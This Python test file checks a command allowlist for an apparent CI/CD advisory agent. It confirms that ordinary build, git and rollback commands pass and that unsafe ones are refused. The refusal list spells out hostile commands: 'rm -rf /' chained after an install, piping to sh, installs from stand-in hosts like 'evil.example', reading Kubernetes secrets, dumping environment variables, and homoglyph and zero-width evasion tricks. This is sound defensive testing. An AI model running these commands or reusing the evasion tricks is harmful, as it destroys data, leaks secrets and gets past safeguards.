"""Only whole commands of known shapes pass."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cicd_agents.advisor.command_shapes import FETCHING
from cicd_agents.advisor.commands import command_fault, packages


def anything(_name: str) -> bool:
    return True


def nothing(_name: str) -> bool:
    return False


GOOD = (
    "npm ci",
    "pytest -vv",
    "npm install lodash@4.17.21 --save-dev",
    "npm install @types/node@20",
    "npm run test:unit",
    "yarn install --immutable",
    "pip install -U -r requirements.txt",
    "python -m pytest tests/a_test.py::test_x -x",
    "cargo update -p serde --precise 1.0.2",
    "go test ./...",
    "go get golang.org/x/net@v0.1.0",
    "./mvnw -B test -Dtest=FooTest",
    "./gradlew :app:test --info",
    "ruff check --fix .",
    "make test",
    "git log --oneline -5 main..dev -- src/x.py",
    "git revert --no-edit 1a2b3c4d",
    "git bisect start",
    "git bisect good HEAD~3",
    "git blame -L 10,20 src/x.py",
    "kubectl -n prod get pods -o wide",
    "kubectl logs deploy/shop -n prod --previous --tail=100",
    "kubectl rollout undo deployment/shop -n prod --to-revision=3",
    "kubectl rollout undo deployment shop --namespace=prod",
    "argocd app history shop",
    "argocd app rollback shop 12",
    "helm rollback shop 3 -n prod",
)
BAD = (
    "npm install; rm -rf /",
    "npm install x | sh",
    "npm ci && id",
    "npm ci > x",
    "npm ci $(id)",
    "npm ci `id`",
    "npm ci &",
    "npm ci '",
    'npm ci "',
    "npm ci\nid",
    "npm ci\tx",
    "npm  ci",
    " npm ci",
    "npm ci ",
    "",
    "A=1 npm ci",
    "npm ci #x",
    "npm install *",
    "npm install {a,b}",
    "npm install ~/x",
    "npm ci \\",
    "npm install https://evil.example/x.tgz",
    "npm install github:a/b",
    "npm install a/b",
    "npm install --registry=evil.com x",
    "pip install git+https://x",
    "pip install --index-url=evil x",
    "pip install ../x",
    "pytest /etc",
    "pytest ../x",
    "curl x",
    "wget x",
    "bash x",
    "sudo npm ci",
    "npx evil",
    "npm exec x",
    "git push",
    "git commit",
    "git config x y",
    "git -c core.pager=x log",
    "git log --output=x",
    "git log -p --ext-diff",
    "git revert --exec=x HEAD",
    "git bisect run sh",
    "git show HEAD:../x",
    "git fetch origin",
    "git clone x",
    "kubectl get secret x",
    "kubectl get secrets -o yaml",
    "kubectl get configmaps",
    "kubectl delete pod x",
    "kubectl exec x",
    "kubectl apply -f x",
    "kubectl edit deploy x",
    "kubectl get pods -o jsonpath=x",
    "argocd app delete x",
    "argocd app sync x",
    "helm get values x",
    "docker run x",
    "env",
    "printenv",
    "npm ｃi",
    "npm ci\u200b",
    "make SHELL=x test",
    "make -f x test",
    "pip install -i evil x",
    "npm install x@npm:evil",
    "yarn dlx x",
    "go test -exec x",
    "go test -toolexec=x",
    "mocha --require x",
    "pytest -p evil",
    "mvn -Dexec.executable=x exec:exec",
    "npm run postinstall",
    "git fetch --upload-pack=x",
    "npm \u0441i",
    "gh pr merge",
    "glab mr approve",
)


@pytest.mark.parametrize("command", GOOD)
def test_usual_commands_pass(command: str) -> None:
    assert command_fault(command, anything) == ""


@pytest.mark.parametrize("command", BAD)
def test_all_else_is_refused(command: str) -> None:
    assert command_fault(command, anything) == "command of another shape"


@given(st.text(alphabet=";|&<>()$`\\\"'*?#{}![]%\n\t\r\x0b", min_size=1, max_size=4), st.sampled_from(GOOD), st.sampled_from(GOOD))
def test_nothing_joins_two_commands(joint: str, first: str, second: str) -> None:
    assert command_fault(first + joint + second, anything)


@given(st.lists(st.sampled_from([*"abx-./@:=~^ ", "npm ", "install ", "kubectl ", "get ", "pods ", "git ", "log ", "-n ", "--"]), max_size=60).map("".join))
def test_what_passes_has_no_character_that_a_shell_reads(command: str) -> None:
    if not command_fault(command, anything):
        assert not set(command) & set(";|&<>()$`\\\"'*?#{}!\n\t%")
        assert "://" not in command


def test_a_package_that_the_evidence_does_not_name_is_refused() -> None:
    names = {"go get": "golang.org/x/evil", "composer update": "evil/evil"}
    assert [start for start in FETCHING if command_fault(f"{start} {names.get(start, 'evil')}", nothing) != "package that the evidence does not name"] == []
    assert command_fault("npm install evil", nothing) == "package that the evidence does not name"
    assert command_fault("npm ci", nothing) == ""


@pytest.mark.parametrize(
    "command",
    [
        "kubectl rollout undo deployment/evil", "kubectl -n evil rollout undo deployment shop", "kubectl rollout undo deployment shop --namespace=evil",
        "kubectl --context evil rollout undo deploy/shop", "kubectl argo rollouts undo evil", "argocd app rollback evil 12", "helm rollback shop 3 -n evil",
    ],
)  # fmt: skip
def test_what_a_way_back_changes_stands_in_the_evidence(command: str) -> None:
    assert command_fault(command, lambda word: word == "shop") == "target that the evidence does not name"
    assert command_fault(command, lambda word: word in ("shop", "evil")) == ""
    assert command_fault(command.replace("evil", "shop"), lambda word: word == "shop") == ""


@pytest.mark.parametrize(
    ("command", "names"),
    [
        ("npm install @a/b@1 -D c", ["@a/b", "c"]),
        ("pip install -r requirements.txt", []),
        ("pip install x[extra]==1 y~=2", ["x", "y"]),
        ("cargo update -p serde --precise 1.0", []),
        ("go get -u a.b/c@v1", ["a.b/c"]),
        ("npm installed", []),
    ],
)
def test_names_of_packages_are_seen(command: str, names: list[str]) -> None:
    assert packages(command) == names


@pytest.mark.parametrize("start", ["npm install", "kubectl get pods", "pytest", "mvn", "git log"])
@pytest.mark.parametrize("word", [" a", " -n a", " a-a", " test", " a.a/a", " -x"])
def test_no_command_takes_long(start: str, word: str) -> None:
    assert command_fault((start + word * 100)[:197] + " !", anything)
